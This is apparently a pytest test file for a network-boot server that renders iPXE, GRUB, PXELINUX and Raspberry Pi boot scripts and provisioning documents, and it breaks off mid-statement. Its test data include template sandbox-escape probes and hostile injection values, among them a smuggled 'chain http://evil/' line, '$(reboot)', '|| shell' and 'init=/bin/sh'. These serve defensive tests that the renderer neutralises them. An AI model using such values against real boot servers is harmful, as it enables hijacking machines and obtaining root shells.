"""Scripts, configurations and documents: what machines get to read, and what they can never make of it."""

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import partial
from importlib.resources import files
from ipaddress import IPv4Network
from typing import Any
from xml.etree import ElementTree

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from pixieboot import render
from pixieboot.inventory import Inventory
from pixieboot.model import (
    EMPTY,
    Arch,
    Assignment,
    Boot,
    Client,
    FetchScript,
    Group,
    Loader,
    LocalDisk,
    Mac,
    Machine,
    Network,
    Profile,
    Silence,
    Site,
    Stage,
    Step,
    Variant,
)
from pixieboot.remote import Remote, path_of
from pixieboot.sandbox import RenderError

MAC = Mac("52:54:00:12:34:56")
SITE = Site(
    network=Network(interface="eth1"),
    interface="eth1",
    ifindex=2,
    address="192.168.77.1",
    subnet=IPv4Network("192.168.77.0/24"),
    http_url="http://192.168.77.1:8080",
    loaders={Arch.X64_EFI: "ipxe.efi", Arch.X86_BIOS: "undionly.kpxe"},
)
CLIENT = Client(MAC, Arch.X64_EFI, Loader.IPXE, Stage.SCRIPT, uuid="4c4c4544-0042-3510-8052-b4c04f4e3732", address="192.168.77.10")
FLATCAR = Profile(
    "flatcar",
    title="Flatcar stable",
    kernel="flatcar/vmlinuz",
    initrd=("flatcar/a.cpio.gz",),
    args=("flatcar.first_boot=1", "ignition.config.url={{ url('ignition') }}", "console=ttyS0"),
    arch={Arch.ARM64_EFI: Variant("flatcar/arm64", ("flatcar/arm64.gz", "http://x.example/b.gz"), ("quiet",))},
    documents={"ignition": "worker.ign.j2", "preseed": "p.j2"},
    message="Installing {{ vars.role }}",
    where="profiles.yaml:1",
)
RAW = Profile("raw", script="raw.ipxe.j2", where="profiles.yaml:9")
CHAIN = Profile("chain", chain="http://boot.netboot.xyz", where="profiles.yaml:11")
TEMPLATES = {
    "worker.ign.j2": '{"role": {{ vars.role | tojson }}}',
    "p.j2": "d-i netcfg/get_hostname string {{ client.hostname | default('debian') }}\n{% include 'pixieboot/done.preseed.j2' %}\n",
    "raw.ipxe.j2": "#!ipxe\necho {{ client.serial | default('none') }} {{ client.query.rack | default('none') }}\n",
}
WEB1 = Machine("web1", macs=(MAC,), hostname="web1", profile="flatcar", vars={"role": "controller", "items": [1, 2]})
INVENTORY = Inventory.build([WEB1], [], [FLATCAR, RAW, CHAIN], TEMPLATES)
Renderer = Callable[[Step, Client, Assignment, Site, Inventory], str]


def boot(profile: Profile, client: Client = CLIENT, renderer: Renderer = render.ipxe, templates: Mapping[str, str] = EMPTY) -> str:
    inventory = Inventory.build([WEB1], [], [FLATCAR, RAW, CHAIN, profile], {**TEMPLATES, **templates})
    assignment = replace(inventory.assign(client, SITE), profile=profile)
    return renderer(Boot(profile, assignment.vars, "because"), client, assignment, SITE, inventory)


def lines(text: str) -> list[str]:
    return text.splitlines()


def commands(text: str, word: str) -> list[str]:
    return [line for line in text.splitlines() if line.split(" ")[0] == word]


# --- iPXE ----------------------------------------------------------------------------------------------------------------


def test_a_kernel() -> None:
    assert boot(FLATCAR) == (
        "#!ipxe\n"
        "# because\n"
        "imgfree\n"
        "echo Installing controller\n"
        "echo pixieboot: Flatcar stable for ${mac}\n"
        "kernel --name kernel http://192.168.77.1:8080/assets/flatcar/vmlinuz initrd=a.cpio.gz flatcar.first_boot=1 "
        "ignition.config.url=http://192.168.77.1:8080/ignition?mac=52-54-00-12-34-56&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732 "
        "console=ttyS0 || goto failed\n"
        "initrd --name a.cpio.gz http://192.168.77.1:8080/assets/flatcar/a.cpio.gz || goto failed\n"
        "boot || goto failed\n"
        ":failed\n"
        "echo pixieboot: this did not boot. `pixieboot why ${mac}` on the server tells more.\n"
        "prompt --timeout 15000 Press any key for the iPXE shell, or wait for the next boot device. && shell ||\n"
        "exit 1\n"
    )


def test_the_variant_of_an_architecture() -> None:
    script = boot(FLATCAR, replace(CLIENT, arch=Arch.ARM64_EFI))
    assert commands(script, "kernel") == [
        "kernel --name kernel http://192.168.77.1:8080/assets/flatcar/arm64 initrd=arm64.gz initrd=b.gz quiet || goto failed"
    ]
    assert commands(script, "initrd")[1] == "initrd --name b.gz http://x.example/b.gz || goto failed"


INITRDS: dict[str, tuple[dict[str, Any], list[str], str]] = {  # profile, names of the images, kernel arguments
    "two of one name": ({"initrd": ("a/i", "b/i")}, ["initrd0", "initrd1"], "initrd=initrd0 initrd=initrd1"),
    "a name with a space": ({"initrd": ("my initrd", "b")}, ["initrd0", "b"], "initrd=initrd0 initrd=b"),
    "named by the operator": ({"initrd": ("a", "b"), "args": ("initrd=a", "x")}, ["a", "b"], "initrd=a x"),
    "wimboot finds its own": ({"kernel": "w/wimboot", "initrd": ("w/BCD", "w/b.wim"), "args": ("x",)}, ["BCD", "b.wim"], "x"),
    "none": ({"args": ("x",)}, [], "x"),
}  # fmt: skip


@pytest.mark.parametrize("profile, names, args", INITRDS.values(), ids=INITRDS)
def test_names_of_initrds(profile: dict[str, Any], names: list[str], args: str) -> None:
    script = boot(Profile("p", **{"kernel": "k", **profile}))
    assert [line.split(" ")[2] for line in commands(script, "initrd")] == names
    assert commands(script, "kernel")[0].split(" ", 4)[4] == f"{args} || goto failed"


def test_what_has_spaces_is_quoted_in_a_url() -> None:
    assert "/assets/my%20files/k%24%7Bx%7D " in boot(Profile("p", kernel="my files/k${x}", args=("x",)))


def test_files_that_this_host_fetches_have_an_address_here() -> None:
    urls = ("https://mirror.example/linux", "http://mirror.example/initrd.gz", "https://mirror.example/root.squashfs")
    profile = Profile("p", kernel=urls[0], initrd=(urls[1], "own.gz"), args=(f"root={{{{ asset('{urls[2]}') }}}}",), cache="once")
    script = boot(profile)
    for url, name in zip(urls, ("linux", "initrd.gz", "root.squashfs"), strict=True):
        link = f"{SITE.http_url}{path_of(SITE.link_key, Remote(url, once=True))}"
        assert link in script and link.endswith(f"/{name}")
    assert "mirror.example" not in script and f"{SITE.http_url}/assets/own.gz" in script
    assert "initrd --name initrd.gz " in script
    assert "(http,192.168.77.1:8080)/remote/" in boot(profile, renderer=render.grub)
    with pytest.raises(RenderError):
        boot(replace(profile, kernel="http://[", cache=""), renderer=render.grub)


def test_a_script_of_the_operator() -> None:
    assert boot(RAW) == "#!ipxe\necho none none\n"
    assert boot(Profile("p", script="s"), templates={"s": "echo hello\n"}) == "#!ipxe\necho hello\n"


def test_a_chain() -> None:
    assert lines(boot(replace(CHAIN, message="Off it goes")))[:4] == [
        "#!ipxe",
        "# because",
        "echo Off it goes",
        "chain --autofree http://boot.netboot.xyz || goto failed",
    ]


LOCAL = {
    "exit0": ["#!ipxe", "echo pixieboot: because", "exit 0"],
    "exit1": ["#!ipxe", "echo pixieboot: because", "exit 1"],
    "sanboot": ["#!ipxe", "echo pixieboot: because", "sanboot --no-describe --drive 0x80 || exit 1"],
    "http404": ["#!ipxe", "echo pixieboot: because", "exit 1"],
}


@pytest.mark.parametrize("how, script", LOCAL.items())
def test_the_local_disk(how: str, script: list[str]) -> None:
    assert lines(render.ipxe(LocalDisk(how, "because"), CLIENT, Assignment(), SITE, INVENTORY)) == script


def test_steps_that_belong_to_other_stages_render_all_the_same() -> None:
    assert "exit 1" in render.ipxe(Silence("because"), CLIENT, Assignment(), SITE, INVENTORY)
    assert "chain --autofree http://x/" in render.ipxe(FetchScript("http://x/", "because"), CLIENT, Assignment(), SITE, INVENTORY)


def test_the_entry_tells_who_asks() -> None:
    assert render.boot_ipxe() == (
        "#!ipxe\nchain ipxe?uuid=${uuid}&mac=${mac:hexhyp}&domain=${domain:uristring}&hostname=${hostname:uristring}"
        "&serial=${serial:uristring}&arch=${buildarch:uristring}&platform=${platform}\n"
    )


def test_autoexec_asks_for_an_address_first() -> None:
    script = render.autoexec_ipxe(SITE)
    assert script.index("dhcp") < script.index("chain --autofree http://192.168.77.1:8080/ipxe?uuid=${uuid}&")


def test_the_menu_boots_the_local_disk_after_a_time_out_and_offers_the_rest() -> None:
    client = replace(CLIENT, mac=Mac("52:54:00:00:00:99"), uuid=None)
    assignment = INVENTORY.assign(client, SITE)
    assert assignment.profile and assignment.profile.menu
    script = render.ipxe(Boot(assignment.profile, {}, "why"), client, assignment, SITE, INVENTORY)
    items = [line.split(" ", 2)[1:] for line in commands(script, "item") if "--gap" not in line]
    assert items == [
        ["local", "Boot from the local disk"],
        ["p2", "Flatcar stable"],
        ["p3", "raw"],
        ["p4", "chain"],
        ["netboot_xyz", "netboot.xyz (from the Internet)"],
        ["shell", "iPXE shell"],
        ["machine", "What this machine is"],
        ["restart", "Restart"],
    ]
    assert "choose --default local --timeout 20000 selected || goto local" in lines(script)
    labels = set(re.findall(r"^:(\w+)$", script, re.MULTILINE))
    assert {item[0] for item in items} | {"start", "failed"} == labels
    assert all(target in labels for target in re.findall(r"goto (\w+)", script))
    assert [line for line in commands(script, "chain") if "&profile=flatcar ||" in line]


@pytest.mark.parametrize("platform", ["efi", "bios"])
def test_the_menu_knows_the_way_to_the_disk(platform: str) -> None:
    client = replace(CLIENT, arch=Arch.X64_EFI if platform == "efi" else Arch.X86_BIOS)
    script = lines(boot(INVENTORY.profiles["menu"], client))
    local = script[script.index(":local") + 1 :]
    assert local[0] == ("exit 1" if platform == "efi" else "iseq ${platform} efi && exit 1 ||")


# --- what came by TFTP fetches the rest by TFTP ------------------------------------------------------------------------------


def test_grub_that_came_by_tftp_needs_no_http() -> None:
    near = partial(render.grub, near=True)
    script = boot(FLATCAR, renderer=near)
    assert "  linux /assets/flatcar/vmlinuz flatcar.first_boot=1 'ignition.config.url=http://192.168.77.1:8080/ignition?" in script
    assert "  initrd /assets/flatcar/a.cpio.gz\n" in script
    assert "insmod" not in script
    for changed in ({"kernel": "http://elsewhere.example/vmlinuz"}, {"initrd": ("http://elsewhere.example/initrd.gz",)}):
        assert "insmod http\n" in boot(replace(FLATCAR, **changed), renderer=near)
    assert "  chainloader /52-54-00-12-34-56/ipxe.efi\n" in boot(RAW, renderer=near)
    assert "insmod http" not in boot(INVENTORY.profiles["menu"], renderer=near)


def test_pxelinux_that_came_by_tftp_needs_no_http() -> None:
    script = lines(boot(FLATCAR, renderer=partial(render.pxelinux, near=True)))
    assert "  KERNEL ::/assets/flatcar/vmlinuz" in script
    assert "  INITRD ::/assets/flatcar/a.cpio.gz" in script


# --- GRUB, PXELINUX, Pixiecore -----------------------------------------------------------------------------------------------


def test_grub() -> None:
    profile = replace(FLATCAR, args=(*FLATCAR.args, "ds=nocloud;s={{ base_url }}/", "it's"))
    assert lines(boot(profile, renderer=render.grub))[5:8] == [
        "  echo 'Installing controller'",
        "  linux '(http,192.168.77.1:8080)/assets/flatcar/vmlinuz' flatcar.first_boot=1 "
        "'ignition.config.url=http://192.168.77.1:8080/ignition?mac=52-54-00-12-34-56&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732' "
        "console=ttyS0 'ds=nocloud;s=http://192.168.77.1:8080/' 'it'\\''s'",
        "  initrd '(http,192.168.77.1:8080)/assets/flatcar/a.cpio.gz'",
    ]


def test_grub_sends_what_it_cannot_do_to_ipxe() -> None:
    for profile in (RAW, CHAIN):
        script = boot(profile, renderer=render.grub)
        assert 'if [ "$grub_cpu-$grub_platform" = "x86_64-efi" ]; then\n' in script
        assert "  chainloader '(http,192.168.77.1:8080)/tftp/52-54-00-12-34-56/ipxe.efi'\n" in script
    assert "exit 1" in render.grub(LocalDisk("exit1", "because"), CLIENT, Assignment(), SITE, INVENTORY)


def test_grub_speaks_no_https() -> None:
    with pytest.raises(
        RenderError, match=r"GRUB cannot fetch https://x.example/k: it speaks http only\. Put the file below assets\."
    ):
        boot(Profile("p", kernel="https://x.example/k", where="profiles.yaml:1"), renderer=render.grub)


def test_grub_menu() -> None:
    text = boot(INVENTORY.profiles["menu"], renderer=render.grub)
    assert re.findall(r"^menuentry (.*) \{$", text, re.MULTILINE) == [
        "'Boot from the local disk'",
        "'Flatcar stable'",
        "'More (iPXE)'",
    ]
    assert "/ignition?mac=52-54-00-12-34-56&profile=flatcar&uuid=" in text  # the document is the offered profile's


@pytest.mark.parametrize("name", sorted(each.name for each in files("pixieboot").joinpath("templates").iterdir()))
def test_no_template_of_ours_asks_the_server_that_leased_the_address(name: str) -> None:
    """Beside a router that is the router: every address here is this host's own (netbootxyz/netboot.xyz#736)."""
    text = files("pixieboot").joinpath("templates", name).read_text()
    assert not re.search(r"next-server|dhcp-server|net_default_server|pxe_default_server", text)


# --- Raspberry Pi --------------------------------------------------------------------------------------------------------

PI = replace(CLIENT, arch=Arch.RPIBOOT, loader=Loader.RASPBERRY_PI)
RASPIOS = Profile("pi", kernel="pi/vmlinuz", initrd=("pi/a", "pi/b"), args=("console=serial0,115200", "root=/dev/nfs"), where="p:1")


def of_pi(kind: str, profile: Profile, **templates: str) -> str | None:
    inventory = Inventory.build([], [], [profile], {f"{name}.j2": text for name, text in templates.items()})
    assignment = replace(inventory.assign(PI, SITE), profile=profile)
    return render.raspberry_pi(kind, Boot(profile, {}, "because"), PI, assignment, SITE, inventory)


def test_a_raspberry_pi_is_told_kernel_initrds_and_arguments() -> None:
    assert of_pi("config.txt", RASPIOS) == (
        "# because\narm_64bit=1\nkernel=assets/pi/vmlinuz\ninitramfs assets/pi/a,assets/pi/b followkernel\nenable_uart=1\n"
    )
    assert of_pi("cmdline.txt", RASPIOS) == "console=serial0,115200 root=/dev/nfs\n"
    bare = replace(RASPIOS, initrd=(), args=("console=tty1",))
    assert of_pi("config.txt", bare) == "# because\narm_64bit=1\nkernel=assets/pi/vmlinuz\n"


def test_a_raspberry_pi_takes_its_own_variant_or_that_of_its_processor() -> None:
    arm64 = replace(RASPIOS, arch={Arch.ARM64_EFI: Variant("arm/k", ())})
    own = replace(arm64, arch={**arm64.arch, Arch.RPIBOOT: Variant("rpi/k")})
    assert "kernel=assets/arm/k\n" in (of_pi("config.txt", arm64) or "")
    assert "kernel=assets/rpi/k\n" in (of_pi("config.txt", own) or "")


def test_a_profile_may_bring_its_own_config_txt() -> None:
    own = replace(RASPIOS, documents={"config.txt": "c.j2"})
    assert of_pi("config.txt", own, c="kernel=u-boot-{{ client.arch }}.bin\n") == "kernel=u-boot-rpiboot.bin\n"
    assert of_pi("cmdline.txt", own) == "console=serial0,115200 root=/dev/nfs\n"


@pytest.mark.parametrize("profile", [RAW, CHAIN, INVENTORY.profiles["menu"]], ids=lambda profile: profile.name)
def test_what_only_ipxe_can_boot_is_not_for_a_raspberry_pi(profile: Profile) -> None:
    assert of_pi("config.txt", profile) is of_pi("cmdline.txt", profile) is None


@pytest.mark.parametrize(
    "profile, what",
    [
        (
            replace(RASPIOS, kernel="http://x.example/k"),
            r"p:1: .*http://x\.example/k, and a Raspberry Pi's firmware knows TFTP only",
        ),
        (replace(RASPIOS, initrd=("a" * 99,)), r"p:1: .*a line of 1\d\d characters in config\.txt"),
    ],
    ids=["a URL", "a long line"],
)
def test_what_a_raspberry_pi_cannot_fetch_is_told_with_its_place(profile: Profile, what: str) -> None:
    with pytest.raises(RenderError, match=what):
        of_pi("config.txt", profile)


def test_pxelinux() -> None:
    assert lines(boot(FLATCAR, renderer=render.pxelinux))[1:] == [
        "DEFAULT boot",
        "PROMPT 0",
        "SAY Installing controller",
        "LABEL boot",
        "  MENU LABEL Flatcar stable",
        "  KERNEL http://192.168.77.1:8080/assets/flatcar/vmlinuz",
        "  INITRD http://192.168.77.1:8080/assets/flatcar/a.cpio.gz",
        "  APPEND flatcar.first_boot=1 ignition.config.url=http://192.168.77.1:8080/ignition?mac=52-54-00-12-34-56"
        "&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732 console=ttyS0",
    ]
    assert "  PXE ::52-54-00-12-34-56/undionly.kpxe" in lines(boot(RAW, renderer=render.pxelinux))
    assert "  LOCALBOOT 0" in lines(render.pxelinux(LocalDisk("exit1", "because"), CLIENT, Assignment(), SITE, INVENTORY))
    assert "  APPEND -" in lines(boot(Profile("p", kernel="k"), renderer=render.pxelinux))


def test_pxelinux_menu() -> None:
    text = boot(INVENTORY.profiles["menu"], renderer=render.pxelinux)
    assert re.findall(r"^LABEL (\w+)$", text, re.MULTILINE) == ["local", "p2"]


def test_a_profile_that_cannot_be_rendered_is_left_out_of_a_menu() -> None:
    broken = Profile("broken", kernel="{{ vars.nothing }}")
    inventory = Inventory.build([], [], [broken, FLATCAR], TEMPLATES)
    menu = inventory.profiles["menu"]
    text = render.grub(Boot(menu, {}, "why"), CLIENT, Assignment(vars={"role": "x"}, profile=menu), SITE, inventory)
    assert "Flatcar stable" in text and "broken" not in text


def test_pixiecore() -> None:
    assignment = INVENTORY.assign(CLIENT, SITE)
    assert render.pixiecore(Boot(FLATCAR, assignment.vars, ""), CLIENT, assignment, SITE, INVENTORY) == {
        "kernel": "http://192.168.77.1:8080/assets/flatcar/vmlinuz",
        "initrd": ["http://192.168.77.1:8080/assets/flatcar/a.cpio.gz"],
        "cmdline": "flatcar.first_boot=1 ignition.config.url=http://192.168.77.1:8080/ignition?mac=52-54-00-12-34-56"
        "&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732 console=ttyS0",
        "message": "Installing controller",
    }
    spec = render.pixiecore(Boot(RAW, {}, ""), CLIENT, assignment, SITE, INVENTORY)
    assert spec == {"ipxe-script": "#!ipxe\necho none none\n"}


# --- documents -------------------------------------------------------------------------------------------------------------


def document(kind: str, client: Client = CLIENT) -> str:
    return render.document(kind, client, INVENTORY.assign(client, SITE), SITE, INVENTORY)


def test_documents() -> None:
    assert document("ignition") == '{"role": "controller"}'
    assert document("preseed") == (
        "d-i netcfg/get_hostname string debian\n"
        'd-i preseed/late_command string wget -q -O /dev/null "http://192.168.77.1:8080/done?mac=52-54-00-12-34-56"\n'
    )


def test_a_document_that_there_is_not() -> None:
    with pytest.raises(RenderError, match=r"^profiles\.yaml:1: profile flatcar has no cloud\. It has: ignition, preseed\.$"):
        document("cloud")
    with pytest.raises(RenderError, match=r"^registry: no profile has no cloud\. It has: no documents\.$"):
        render.document("cloud", CLIENT, Assignment(), SITE, INVENTORY)


def test_an_ignition_configuration_that_is_no_json_is_not_served() -> None:
    inventory = Inventory.build([WEB1], [], [FLATCAR], {**TEMPLATES, "worker.ign.j2": "{\n  role: 1\n}"})
    with pytest.raises(RenderError, match=r"templates/worker\.ign\.j2: the rendered Ignition configuration is not JSON .* line 2"):
        render.document("ignition", CLIENT, inventory.assign(CLIENT, SITE), SITE, inventory)


def test_butane_is_translated_by_whoever_can() -> None:
    profile = replace(FLATCAR, documents={"ignition": "worker.bu.j2"})
    inventory = Inventory.build([WEB1], [], [profile], {"worker.bu.j2": "role: {{ vars.role }}\n"})
    assignment = inventory.assign(CLIENT, SITE)
    translated = render.document("ignition", CLIENT, assignment, SITE, inventory, lambda text: json.dumps({"was": text}).encode())
    assert translated == '{"was": "role: controller\\n"}'
    with pytest.raises(RenderError, match=r"^templates/worker\.bu\.j2: a Butane configuration needs the program butane\. Install"):
        render.document("ignition", CLIENT, assignment, SITE, inventory)


def test_metadata() -> None:
    group = Group("g", match={"rack": "7", "subnet": "192.168.77.0/24"})
    variables = {"role": "x", "net": {"mtu": 9000, "dns": {"a": "10.0.0.1"}}, "list": [1], "on": True, "two": "a\nb", "none": None}
    text = render.metadata(CLIENT, Assignment(group=group, vars=variables))
    assert lines(text) == ["MAC=52:54:00:12:34:56", "NET_DNS_A=10.0.0.1", "NET_MTU=9000", "ON=true", "RACK=7", "ROLE=x", "TWO=a b"]
    assert document("metadata").startswith("MAC=52:54:00:12:34:56\nROLE=controller\n")


URLS = {
    "metadata": "metadata?mac=52-54-00-12-34-56&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732",
    "preseed": "files/preseed?mac=52-54-00-12-34-56&uuid=4c4c4544-0042-3510-8052-b4c04f4e3732",
    "done": "done?mac=52-54-00-12-34-56",
    "ipxe": "ipxe?mac=52-54-00-12-34-56",
    "cloud-init": "cloud-init/52-54-00-12-34-56/",
    "user-data": "cloud-init/52-54-00-12-34-56/user-data",
}


@pytest.mark.parametrize("kind, path", URLS.items())
def test_url(kind: str, path: str) -> None:
    script = boot(replace(FLATCAR, args=(f"x={{{{ url('{kind}') }}}}",)))
    assert f" x=http://192.168.77.1:8080/{path} " in script


def test_a_document_is_found_by_the_labels_that_led_to_it() -> None:
    group = Group("g", match={"rack": "a&b", "serial": "S 1", "platform": "efi"}, profile="flatcar", vars={"role": "r"})
    client = replace(CLIENT, uuid=None, serial="S 1", labels={"rack": "a&b", "other": "x", "serial": "S 1", "profile": "flatcar"})
    inventory = Inventory.build([], [group], [FLATCAR], TEMPLATES)
    assignment = inventory.assign(client, SITE)
    assert assignment.group is group
    script = render.ipxe(Boot(FLATCAR, assignment.vars, ""), client, assignment, SITE, inventory)
    assert "/ignition?mac=52-54-00-12-34-56&arch=x64-efi&profile=flatcar&rack=a%26b&serial=S%201 " in script


# --- errors ------------------------------------------------------------------------------------------------------------------

SCRIPT = Profile("p", script="s.j2", where="profiles.yaml:1")
ERRORS: dict[str, tuple[str, str]] = {  # template, message after "templates/s.j2:"
    "a variable misspelt": ("#!ipxe\n\necho {{ vars.rol }}\n", "3: vars.rol is not defined. Did you mean 'role'?"),
    "a variable that is not there": (
        "{{ vars.zzz }}",
        "1: vars.zzz is not defined. Define it under vars of the machine, its group or the default group.",
    ),
    "a name that is not there": (
        "\n{{ hostname }}",
        "2: hostname is not defined. Define it under vars of the machine, its group or the default group.",
    ),
    "a key of a machine that has none": ("{{ machine.serial }}", "1: machine.serial is not defined. Define it"),
    "what the client did not tell": ("{{ client.hostname }}", "1: client.hostname is not defined. Define it"),
    "a query parameter that was not sent": ("{{ client.query.rack }}", "1: client.query.rack is not defined. Define it"),
    "an undefined condition": ("{% if vars.x %}a{% endif %}", "1: vars.x is not defined. Define it"),
    "a method for a value": ("{{ vars.keys }}", "1: this is a function, not a value. Call it, as in url('ignition')."),
    "a null": ("{{ none }}", "1: this value is empty (null). Give it a value, or a stand-in with `| default('…', true)`."),
    "a document that there is not": ("{{ url('ignitio') }}", "1: url('ignitio'): profile p has no such document. It has: "),
    "a calculation": ("x\n{{ 1 / 0 }}", "2: division by zero (ZeroDivisionError). Correct the template."),
    "a way out of the sandbox": ("{{ ''.__class__ }}", "1: "),
    "another way out": ("{{ url.__globals__ }}", "1: "),
    "a change of the registry": ("{{ vars.update({'a': 1}) }}", "1: "),
    "a template that is not there": ("{% include vars.role %}", " the template 'controller' does not exist. Templates live below"),
}


@pytest.mark.parametrize("template, message", ERRORS.values(), ids=ERRORS)
def test_errors_name_template_line_and_variable(template: str, message: str) -> None:
    with pytest.raises(RenderError) as raised:
        boot(SCRIPT, templates={"s.j2": template})
    assert str(raised.value).startswith(f"templates/s.j2:{message}")


def test_an_error_in_an_included_template_names_that_one() -> None:
    with pytest.raises(RenderError, match=r"^templates/sub/t\.j2:2: vars\.x is not defined\."):
        boot(SCRIPT, templates={"s.j2": "{% include 'sub/t.j2' %}", "sub/t.j2": "\n{{ vars.x }}"})


def test_the_machine_is_told_in_short() -> None:
    with pytest.raises(RenderError) as raised:
        boot(SCRIPT, templates={"s.j2": "{{ vars.rol }}"})
    assert raised.value.short == "pixieboot: templates/s.j2:1: vars.rol is not defined"


VALUE_ERRORS: dict[str, tuple[dict[str, Any], str]] = {
    "an undefined argument": ({"args": ("x={{ vars.rol }}",)}, "args of profile p: vars.rol is not defined. Did you mean 'role'?"),
    "an argument of two lines": (
        {"args": ("x={{ 'a\nb' }}",)},
        "args of profile p has a line break or control character. Make it one line.",
    ),
    "an argument that ends iPXE's command": (
        {"args": ("a", "|| reboot")},
        "args of profile p holds the word '||', which ends an iPXE command. Leave it out.",
    ),
    "a comment": ({"args": ("a #b",)}, "args of profile p holds the word '#b', which ends an iPXE command. Leave it out."),
    "a kernel's address with a space": (
        {"kernel": "http://x/a b"},
        "kernel of profile p is 'http://x/a b', an address with a space. Write %20 for it.",
    ),
}


@pytest.mark.parametrize("profile, message", VALUE_ERRORS.values(), ids=VALUE_ERRORS)
def test_values_of_a_profile_that_cannot_be(profile: dict[str, Any], message: str) -> None:
    with pytest.raises(RenderError) as raised:
        boot(Profile("p", where="profiles.yaml:5", **{"kernel": "k", **profile}))
    assert str(raised.value) == f"profiles.yaml:5: {message}"


def test_an_argument_may_come_to_nothing() -> None:
    assert commands(boot(Profile("p", kernel="k", args=("{{ 'a' if false else '' }}", "b"))), "kernel")[0].endswith(
        "/k b || goto failed"
    )


# --- the names that templates see ----------------------------------------------------------------------------------------------

NAMES = {
    "data come before methods": ("{{ vars.items }}", "[1, 2]"),
    "methods work where no data are": ("{% for k, v in machine.items() %}{% endfor %}{{ machine.keys() | list | first }}", "name"),
    "machine": ("{{ machine.name }} {{ machine.mac }} {{ machine.macs[0] }} {{ machine.hostname }}", f"web1 {MAC} {MAC} web1"),
    "client": ("{{ client.mac }} {{ client.arch }} {{ client.platform }} {{ client.ip }}", f"{MAC} x64-efi efi 192.168.77.10"),
    "asset": ("{{ asset('a b/c') }} {{ asset('https://x/y') }}", "http://192.168.77.1:8080/assets/a%20b/c https://x/y"),
    "base_url and profile": ("{{ base_url }} {{ profile }}", "http://192.168.77.1:8080 p"),
    "default": ("{{ vars.x | default('d') }}{{ machine.serial is defined }}", "dFalse"),
    "nothing is escaped": ("{{ '<&>' }}", "<&>"),
    "blocks leave no empty lines": ("a\n  {% if true %}\nb\n  {% endif %}\nc\n", "a\nb\nc\n"),
    "an operator's own menu": ("{% include 'pixieboot/failed.ipxe.j2' %}", "mine"),
}


@pytest.mark.parametrize("template, text", NAMES.values(), ids=NAMES)
def test_names(template: str, text: str) -> None:
    assert boot(SCRIPT, templates={"s.j2": f"#!ipxe\n{template}", "pixieboot/failed.ipxe.j2": "mine"}) == f"#!ipxe\n{text}"


def test_a_machine_that_nobody_described() -> None:
    client = replace(CLIENT, mac=Mac("52:54:00:00:00:99"), uuid=None)
    assert boot(SCRIPT, client, templates={"s.j2": "#!ipxe {{ machine.name | default(client.mac) }}"}) == "#!ipxe 52:54:00:00:00:99"


# --- snippets ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("snippet, language", [("done.ign.j2", "json"), ("done.cloud.j2", "phone_home")])
def test_snippets_that_report_done(snippet: str, language: str) -> None:
    text = boot(SCRIPT, templates={"s.j2": f"#!ipxe\n{{% include 'pixieboot/{snippet}' %}}"}).removeprefix("#!ipxe\n")
    assert "http://192.168.77.1:8080/done?mac=52-54-00-12-34-56" in text
    if language == "json":
        assert json.loads(text)["enabled"] is True
    else:
        assert text.startswith(f"{language}:\n")


# --- hostile values --------------------------------------------------------------------------------------------------------------

HOSTILE = {
    "a line break": "web1\nchain http://evil/",
    "a carriage return": "web1\rchain http://evil/",
    "a setting": "${net0/mac}",
    "an expression": "{{ vars.role }}{% raw %}",
    "a closed expression": "}} {{ url('done') }}",
    "quotes": "'\"`$(reboot)`",
    "an operator": "|| shell",
    "a comment": "# rest",
    "a space": "a init=/bin/sh",
    "64 KiB": "A" * 65536,
    "Unicode's line separator": "a\u2028b\u2029c\x85d",
    "NUL": "a\0b",
}
TELLTALE = {
    "script": Profile("p", script="s.j2"),
    "kernel": Profile(
        "p",
        kernel="k",
        initrd=("i",),
        args=(
            "h={{ client.hostname }}",
            "s={{ client.serial }}",
            "q={{ client.query.rack }}",
            "v={{ client.query.vendor }}",
            "u={{ url('preseed') }}",
        ),
        documents={"preseed": "s.j2"},
        message="{{ client.hostname }}",
    ),
}
FIELDS = (
    "{{ client.hostname }} {{ client.serial }} {{ client.query.rack }} {{ client.query.vendor }}"
    "{% for name, value in client.query.items() %} {{ name }}={{ value }}{% endfor %}"
)
TEMPLATE = f"#!ipxe\necho {FIELDS} end\n"
DOCUMENTS = {
    "ignition": '{"ignition": {"version": "3.4.0"}, "files": [{"path": "/{{ client.hostname }}", "contents": "FIELDS"}]}',
    "cloud": "#cloud-config\nhostname: {{ client.hostname }}\nserial: {{ client.serial }}\nwords: [{{ client.query.rack }}]\n"
    "all: 'FIELDS'\nquoted: \"FIELDS\"\nlast: {{ client.query.domain }}\n",
    "preseed": "d-i netcfg/get_hostname string {{ client.hostname }}\nd-i x string FIELDS\n",
    "kickstart": "network --hostname={{ client.hostname }}\n# FIELDS\n%post\necho '{{ client.serial }}'\n%end\n",
    "autounattend": "<name>{{ client.hostname }}</name><all at='{{ client.serial }}'>FIELDS</all>",
    "cmdline.txt": "quiet FIELDS\n",
}


def told(value: str) -> Client:
    """A client that says this value wherever a client can say something."""
    labels = {"hostname": value, "serial": value, "rack": value, "vendor": value, "domain": value, value: "x"}
    return replace(CLIENT, serial=value, vendor_class=value, labels=labels)


def shape(text: str) -> list[tuple[str, int]]:
    """What the loader makes of a text: the command of each line, and how many words it has."""
    return [(line.split(" ")[0], len(line.split())) for line in re.split(r"[\r\n\x85\u2028\u2029]", text)]


def hold_against(value: str) -> None:
    # A group that matches on what the client says, so that url() has to carry it.
    for profile in TELLTALE.values():
        inventory = Inventory.build([], [Group("g", match={"rack": value}, profile="p")], [profile], {"s.j2": TEMPLATE})
        harmless = Inventory.build([], [Group("g", match={"rack": "x"}, profile="p")], [profile], {"s.j2": TEMPLATE})
        for renderer in (render.ipxe, render.grub, render.pxelinux):
            hostile, mild = told(value), told("x")
            assignment = inventory.assign(hostile, SITE)
            text = renderer(Boot(profile, {}, "w"), hostile, assignment, SITE, inventory)
            expected = renderer(Boot(profile, {}, "w"), mild, harmless.assign(mild, SITE), SITE, harmless)
            assert shape(text) == shape(expected)
            assert text.count("${") == expected.count("${") and text.count("||") == expected.count("||")
            assert text.count("'") == expected.count("'")
    menu = INVENTORY.profiles["menu"]
    for renderer in (render.ipxe, render.grub, render.pxelinux):
        texts = [
